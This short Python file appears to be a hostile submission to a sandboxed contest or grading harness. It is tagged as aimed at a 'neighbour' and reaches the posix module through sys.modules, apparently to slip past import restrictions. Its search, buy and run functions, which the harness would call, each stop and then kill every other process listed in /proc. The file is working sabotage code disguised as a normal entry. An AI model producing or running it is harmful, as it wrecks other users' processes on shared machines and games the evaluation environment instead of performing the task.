"""Kills every process that it can find, one by one.

family: between_submissions
aims-at: neighbour
needs: box
"""

import sys

posix = sys.modules["posix"]


def kill():
    mine = posix.getpid()
    for number in (19, 9):
        for name in filter(str.isdigit, posix.listdir("/proc")):
            if int(name) != mine:
                try:
                    posix.kill(int(name), number)
                except OSError:
                    continue


def search(name):
    kill()


def buy(name):
    return None


def run(name, mutex):
    kill()
    return True
